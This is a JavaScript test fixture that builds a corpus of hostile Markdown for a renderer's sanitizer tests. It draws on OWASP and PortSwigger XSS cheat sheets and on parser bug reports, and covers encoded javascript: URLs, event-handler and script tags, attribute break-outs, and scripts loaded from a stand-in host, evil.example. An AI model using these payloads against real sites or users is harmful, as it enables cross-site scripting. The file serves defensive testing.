// Hostile Markdown for tests/browser/hostile.test.mjs: each entry is
// [source, markdown]. Written for this project, after these sources:
//
//   OWASP      OWASP Cheat Sheet Series, "XSS Filter Evasion Cheat Sheet"
//              cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
//   PORTSWIGGER PortSwigger Web Security Academy, "Cross-site scripting (XSS) cheat sheet"
//              portswigger.net/web-security/cross-site-scripting/cheat-sheet
//   MDWASM14   rsms/markdown-wasm#14 (md4c renders javascript: links as given)
//   CMSPEC585  commonmark/commonmark-spec#585 (javascript: in the dingus; commonmark.js `safe`)
//   CMJS305    commonmark/commonmark.js#305 (unsafe-scheme regex anchored wrongly)
//   MDIT1083   markdown-it/markdown-it#1083, #533 (validateLink refuses javascript:, also in <...>)
//   LEAGUE337  thephpleague/commonmark#337, CVE-2018-20583 (%0A inside the scheme)
//   MARKED592  markedjs/marked#592 (entities without ';' finish the scheme)
//   FLEXMARK672 vsch/flexmark-java#672 (numeric references inside the scheme)
//   EDITORMD   pandao/editor.md#709, #634 (Javas&#99;ript:, &#40; in links)
//   MD2        trentm/python-markdown2#341, #694, #702, #703, #721, #726 (safe-mode bypasses)
//   PAGEDOWN34 StackExchange/pagedown#34 (markup inside link text)
//   MDJS1      thysultan/md.js#1 (quotes breaking out of attributes)
//   AW10       this project's issue 10, from an independent review (references
//              that split a code block's class; URLs the WHATWG parser reads
//              differently from a naive reading)
//   AW12       this project's issue 12 (named references left to the browser:
//              javascript&colon; must stay refused without a table of names)
//   AW19       this project's issue 19 (the rest of a long run without a break
//              opportunity goes into the renderer's span: markup inside
//              stays text)
//
// The URL spellings are tried in every place a URL can appear (inline link,
// image, reference definition, link with a title, pointy-bracket
// destination); the HTML and attribute break-outs stand alone.

const A = 'alert(1)';

// [source, a URL as written in Markdown]
export const URL_SPELLINGS = [
  ['OWASP', `javascript:${A}`],
  ['OWASP', `JaVaScRiPt:${A}`],
  ['OWASP', `JAVASCRIPT:${A}`],
  ['OWASP', `&#106;avascript:${A}`],
  ['OWASP', `&#x6A;avascript:${A}`],
  ['OWASP', `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${A}`],
  ['OWASP', `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${A}`],
  ['OWASP', `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${A}`],
  ['OWASP', `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${A}`],
  ['OWASP', `jav&#x09;ascript:${A}`],
  ['OWASP', `jav&#x0A;ascript:${A}`],
  ['OWASP', `jav&#x0D;ascript:${A}`],
  ['OWASP', `&#x20;&#x0B;javascript:${A}`],
  ['OWASP', `&#14;javascript:${A}`],
  ['OWASP', `java&#0;script:${A}`],
  ['OWASP', `java\u0000script:${A}`],
  ['OWASP', `\u0001javascript:${A}`],
  ['OWASP', `java&Tab;script:${A}`],
  ['OWASP', `java&NewLine;script:${A}`],
  ['OWASP', `&Tab;javascript:${A}`],
  ['OWASP', `&NewLine;javascript:${A}`],
  ['OWASP', `javascript&colon;${A}`],
  ['OWASP', `JAVASCRIPT&colon;${A}`],
  ['OWASP', `javascript&#58;${A}`],
  ['OWASP', `javascript&#0000058;${A}`],
  ['OWASP', `javascript&#x3a;${A}`],
  ['OWASP', `javascript&#x09;:${A}`],
  ['OWASP', `javascript&#x3A;alert&#x28;1&#x29;`],
  ['OWASP', `livescript:${A}`],
  ['OWASP', `mocha:${A}`],
  ['OWASP', `vbscript:msgbox(1)`],
  ['OWASP', `VBScript:msgbox(1)`],
  ['OWASP', `vbs&#99;ript:msgbox(1)`],
  ['OWASP', `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`],
  ['OWASP', `DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`],
  ['OWASP', `d&#97;ta:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`],
  ['OWASP', `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`],
  ['OWASP', `file:///etc/passwd`],
  ['PORTSWIGGER', `javascript://%0Aalert(1)`],
  ['PORTSWIGGER', `javascript:/**/alert(1)`],
  ['PORTSWIGGER', `javascript:alert\`1\``],
  ['PORTSWIGGER', `javascript:window.onerror=alert;throw%201`],
  ['PORTSWIGGER', `ja&#x200B;vascript:${A}`],
  ['CMSPEC585', `javascript:window.onerror=alert;throw%20"xss"`],
  ['CMJS305', `https://example.com/view?src=data:image/png`],
  ['LEAGUE337', `javascri%0Apt:${A}`],
  ['LEAGUE337', `java%09script:${A}`],
  ['LEAGUE337', `%6Aavascript:${A}`],
  ['MARKED592', `javascript&#58document;alert&#40;1&#41;`],
  ['MD2', `javascript&#058alert(origin)`],
  ['FLEXMARK672', `java&#115;cript:alert(origin)`],
  ['EDITORMD', `Javas&#99;ript:alert("x")`],
  ['EDITORMD', `javascript:alert&#40;&#49;&#41;`],
  ['MDWASM14', ` javascript:${A}`],
];

// How each spelling is placed; pointy brackets allow spaces and controls.
export const URL_PLACES = [
  ['inline link', (u) => `[click](${u})`],
  ['image', (u) => `![alt](${u})`],
  ['reference definition', (u) => `[click][r] and ![img][r]\n\n[r]: ${u}`],
  ['link with title', (u) => `[click](<${u}> "title")`],
];

// [source, markdown]: raw HTML, attribute break-outs, Markdown oddities.
export const STANDALONE = [
  ['OWASP', '<script>alert(1)</script>'],
  ['OWASP', '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>'],
  ['OWASP', '<IMG SRC="javascript:alert(\'XSS\');">'],
  ['OWASP', '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>'],
  ['OWASP', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['OWASP', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['OWASP', '<IMG SRC=# onmouseover="alert(\'xxs\')">'],
  ['OWASP', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['OWASP', '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">'],
  ['OWASP', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
  ['OWASP', '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>'],
  ['OWASP', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['OWASP', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['OWASP', '<SCRIPT SRC=http://evil.example/xss.js?< B >'],
  ['OWASP', '<iframe src=http://evil.example/scriptlet.html <'],
  ['OWASP', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['OWASP', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'],
  ['OWASP', '<BODY BACKGROUND="javascript:alert(\'XSS\')">'],
  ['OWASP', '<svg/onload=alert(\'XSS\')>'],
  ['OWASP', '<BODY ONLOAD=alert(\'XSS\')>'],
  ['OWASP', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">'],
  ['OWASP', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">'],
  ['OWASP', '<STYLE>@import\'http://evil.example/xss.css\';</STYLE>'],
  ['OWASP', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'],
  ['OWASP', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'],
  ['OWASP', '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>'],
  ['OWASP', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml"></EMBED>'],
  ['OWASP', '<BASE HREF="javascript:alert(\'XSS\');//">'],
  ['OWASP', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['OWASP', '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ['OWASP', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['OWASP', '\u0000<script>alert(1)</script>'],
  ['OWASP', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['OWASP', '\uFEFF<script>alert(1)</script>'],
  ['PORTSWIGGER', '<details open ontoggle=alert(1)>'],
  ['PORTSWIGGER', '<input autofocus onfocus=alert(1)>'],
  ['PORTSWIGGER', '<video><source onerror="alert(1)">'],
  ['PORTSWIGGER', '<audio src=1 onerror=alert(1)>'],
  ['PORTSWIGGER', '<body onpageshow=alert(1)>'],
  ['PORTSWIGGER', '<marquee onstart=alert(1)>x</marquee>'],
  ['PORTSWIGGER', '<form action="javascript:alert(1)"><button>x</button></form>'],
  ['PORTSWIGGER', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['PORTSWIGGER', '<object data="javascript:alert(1)">'],
  ['PORTSWIGGER', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'],
  ['PORTSWIGGER', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['PORTSWIGGER', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['PORTSWIGGER', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['PORTSWIGGER', '<x onclick=alert(1)>click</x>'],
  ['PORTSWIGGER', '<img src=1 href=1 onerror="javascript:alert(1)"></img>'],
  ['PORTSWIGGER', '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)"></b>'],
  ['PORTSWIGGER', '<![CDATA[<script>alert(1)</script>]]>'],
  ['PORTSWIGGER', '<?xml-stylesheet type="text/xsl" href="data:,alert(1)"?>'],
  ['PORTSWIGGER', '<img src=x onerror=alert(1)//'],
  ['MD2', '<!--<img src=x onerror=alert(1)>-->'],
  ['MD2', '\\<!--<img src onerror=alert(origin)//>-->'],
  ['MD2', '<http:|><x| onmouseover=alert(origin) style=display:block>'],
  ['MD2', '<iframe\n<http:> srcdoc="<script>alert()</script>" a='],
  ['MD2', '`\n<img src onerror="alert(origin)">\n[x]: `'],
  ['MD2', '![A](B "<C D="E" onerror=alert(origin) >")'],
  ['MD2', '<http://g<!s://q?<!-<[<script>alert(1);/\\*](http://g)->a><http://g<!s://g.c?<!-<[a\\\\*/</script>alert(1);/*](http://g)->a>'],
  ['MD2', '<http:[<script>alert(1);//]()><http:[</script>]()>'],
  ['MD2', '<x![](`<a\n>`)><svg onload=alert(origin)![](`<a\n>`)'],
  ['PAGEDOWN34', '[<svg/onload=alert(1)//]()'],
  ['MDJS1', '![](" onerror="alert(1))'],
  ['MDJS1', '[a](x "title\\" onmouseover=alert(1)")'],
  ['MDJS1', '[a](x \'t" onmouseover="alert(1)\')'],
  ['MDJS1', '![a" onerror="alert(1)](x.png)'],
  ['MDJS1', '![a\' onerror=\'alert(1)](x.png)'],
  ['MDIT1083', '[hello]( <javascript:alert(1)> )'],
  ['MDIT1083', '<javascript:alert(1)>'],
  ['MDIT1083', '<JAVASCRIPT:alert(1)>'],
  ['MDIT1083', '<vbscript:msgbox(1)>'],
  ['MDIT1083', '<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>'],
  ['MDIT1083', '<javascript&colon;alert(1)>'],
  ['EDITORMD', '<<[11111](javascript:alert&#40;&#49;&#41; "11111")>>'],
  // Markdown constructs carrying markup into every context the renderer writes.
  ['PORTSWIGGER', '```js" onmouseover="alert(1)\ncode\n```'],
  ['PORTSWIGGER', '```<script>alert(1)</script>\ncode\n```'],
  ['PORTSWIGGER', '# Heading <img src=x onerror=alert(1)>'],
  ['PORTSWIGGER', 'Heading " onmouseover="alert(1)\n==='],
  ['PORTSWIGGER', '| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |'],
  ['PORTSWIGGER', '- [ ] <img src=x onerror=alert(1)>\n- [x] <script>alert(1)</script>'],
  ['PORTSWIGGER', '~~<script>alert(1)</script>~~'],
  ['PORTSWIGGER', '> <iframe src="javascript:alert(1)">'],
  ['PORTSWIGGER', '`<script>alert(1)</script>`'],
  ['PORTSWIGGER', '    <script>alert(1)</script>'],
  ['PORTSWIGGER', 'www.example.com/<script>alert(1)</script>'],
  ['PORTSWIGGER', 'https://example.com/"onmouseover="alert(1)'],
  ['PORTSWIGGER', '<https://example.com/"onmouseover="alert(1)>'],
  ['PORTSWIGGER', '[x](https://example.com/"onmouseover="alert(1))'],
  ['PORTSWIGGER', 'foo@bar.example<img src=x onerror=alert(1)>'],
  ['PORTSWIGGER', '[*<img src=x onerror=alert(1)>*](https://example.com)'],
  ['PORTSWIGGER', '![<img src=x onerror=alert(1)>](x.png "<script>")'],
  ['PORTSWIGGER', '[a](#"><script>alert(1)</script>)'],
  ['PORTSWIGGER', '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;'],
  ['PORTSWIGGER', '&#x3C;img src=x onerror=alert(1)&#x3E;'],
  // A code block's class is "language-" and one token, however whitespace is spelled.
  ...['&#32;', '&#x20;', '&Tab;', '&NewLine;', '&#12;', '&#13;'].map((ws) => ['AW10', `\`\`\`js${ws}aw-title aw-live\ncode\n\`\`\``]),
  ['AW10', '```&#32;aw-live\ncode\n```'],
  ['AW19', `${'x'.repeat(300)}<span class="aw-long-run" onmouseover="alert(1)">${'y'.repeat(300)}</span>`],
  ['AW19', `\`${'<script>'.repeat(40)}\`[${'z'.repeat(300)}](javascript:alert(1))${'<img src=x onerror=alert(1)>'.repeat(10)}`],
];

// [source, URL as the author means it, why it is refused (kept when absent)]:
// URLs that the WHATWG URL parser reads differently from a naive reading.
// tests/js/policy.test.mjs (Node's URL) and hostile.test.mjs (Chromium)
// check that what is written parses to the URL the author's would, that
// links going to another host get rel, and that the refusals are right.
export const URL_READINGS = [
  ['AW10', 'https://example.com/a?b=1&c=2#f'],
  ['AW10', 'HTTPS://Example.COM/A'],
  ['AW10', '\\\\evil.example/x'],
  ['AW10', '/\\evil.example/x'],
  ['AW10', '\\/evil.example'],
  ['AW10', '///evil.example/x'],
  ['AW10', 'https:\\\\evil.example\\path\\x?q=\\#f\\'],
  ['AW10', 'http:/\\evil.example'],
  ['AW10', 'https://good.example\\@evil.example/'],
  ['AW10', 'https://user:pw@evil.example/'],
  ['AW10', 'http://[::1]:8080/'],
  ['AW10', 'http://[2001:db8::1]/a'],
  ['AW10', 'https://b\u00fccher.example/\u00fc?\u00fc#\u00fc'],
  ['AW10', 'http://example.com/a b'],
  ['AW10', '  https://example.com/x  '],
  ['AW10', '/a\tb\nc'],
  ['AW10', '/news/mali'],
  ['AW10', '\\news\\mali'],
  ['AW10', 'mali.html'],
  ['AW10', '../a:b'],
  ['AW10', 'foo):'],
  ['AW10', 'jav ascript:alert(1)'],
  ['AW10', '?q=a\\b'],
  ['AW10', '#frag'],
  ['AW10', 'mailto:desk@example.com'],
  ['AW10', 'tel:+1-555-0100'],
  ['AW10', 'sms:+15550100?body=hi'],
  ['AW10', 'https:evil.example', 'a host or a path, depending on the page\'s scheme'],
  ['AW10', 'http:/evil.example', 'a host or a path, depending on the page\'s scheme'],
  ['AW10', 'http:evil.example', 'a host or a path, depending on the page\'s scheme'],
];

// [source, Markdown link destination with named references, the URL it
// stands for once the references are decoded, why it is refused]: the
// module leaves named references to the browser (src/char_refs.h).
export const REFERENCE_READINGS = [
  ['AW12', '</f&ouml;&ouml;?a=1&amp;b=2#&sect;>', '/f\u00f6\u00f6?a=1&b=2#\u00a7'],
  ['AW12', '<https://example.com/caf&eacute;>', 'https://example.com/caf\u00e9'],
  ['AW12', '<//example.com&sol;x>', '//example.com/x'],
  ['AW12', '</x\\y&quest;z\\w>', '/x\\y?z\\w'],
  ['AW12', '<./caf&eacute;.html>', './caf\u00e9.html'],
  ['AW12', '<mailto:desk&commat;example.com>', 'mailto:desk@example.com'],
  ['AW12', '<javascript&colon;alert(1)>', 'javascript:alert(1)', 'a named reference where the scheme is decided'],
  ['AW12', '<java&Tab;script:alert(1)>', 'java\tscript:alert(1)', 'a named reference where the scheme is decided'],
  ['AW12', '</&sol;evil.example>', '//evil.example', 'a named reference just after a lone slash'],
  ['AW12', '<https:&sol;&sol;evil.example>', 'https://evil.example', 'a named reference where the slashes are'],
  ['AW12', '<caf&eacute;.html>', 'caf\u00e9.html', 'a named reference where the scheme is decided (the cost of no table)'],
];

// Every URL reading as { source, url, markdown, refusal }.
export function urlReadings() {
  return [
    ...URL_READINGS.map(([source, url, refusal]) => ({ source, url, markdown: `[x](${markdownDestination(url)})`, refusal })),
    ...REFERENCE_READINGS.map(([source, destination, url, refusal]) => ({ source, url, markdown: `[x](${destination})`, refusal })),
  ];
}

// A URL as a Markdown link destination that gives back exactly `url`.
export function markdownDestination(url) {
  // eslint-disable-next-line no-control-regex
  return '<' + url.replace(/[\\<>]/g, (c) => '\\' + c).replace(/[\u0000-\u001f]/g, (c) => `&#${c.charCodeAt(0)};`) + '>';
}

// Every input, as [source, place, markdown].
export function hostileCorpus() {
  const corpus = [];
  for (const [source, url] of URL_SPELLINGS) {
    for (const [place, wrap] of URL_PLACES) corpus.push([source, place, wrap(url)]);
  }
  for (const [source, markdown] of STANDALONE) corpus.push([source, 'standalone', markdown]);
  for (const { source, markdown } of urlReadings()) corpus.push([source, 'url reading', markdown]);
  return corpus;
}
